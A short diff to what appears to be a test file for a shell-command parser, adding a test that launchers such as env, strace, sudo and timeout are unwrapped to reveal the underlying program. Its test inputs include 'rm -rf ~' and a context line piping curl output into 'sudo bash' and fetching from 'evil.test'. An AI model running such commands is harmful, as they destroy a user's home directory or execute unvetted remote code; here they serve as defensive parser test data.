@@ -84,6 +84,17 @@ def test_forms_keep_launchers() -> None:
     assert inner.forms == ("rm x", "sudo rm x")
 
 
+@pytest.mark.parametrize("command", [
+    "env -iu FOO rm -rf ~", "strace -fo /tmp/log rm -rf ~", "sudo -iu root rm -rf ~",
+    "sudo -Eu root rm -rf ~", "timeout -ks9 5 rm -rf ~",
+])
+def test_a_launchers_clustered_option_takes_the_next_word_as_its_value(command: str) -> None:
+    comp = parse_command(command).components[0]
+    assert comp.argv == ("rm", "-rf", "~")
+    # an earlier value letter takes the rest of the word: the program is the next word
+    assert parse_command("nice -n5 rm x").components[0].argv == ("rm", "x")
+
+
 def test_pipelines_and_urls() -> None:
     parsed = parse_command("curl -fsSL https://Get.Example/x | sudo bash && wget evil.test/y")
     assert parsed.pipelines == ("curl -fsSL https://Get.Example/x | bash",)
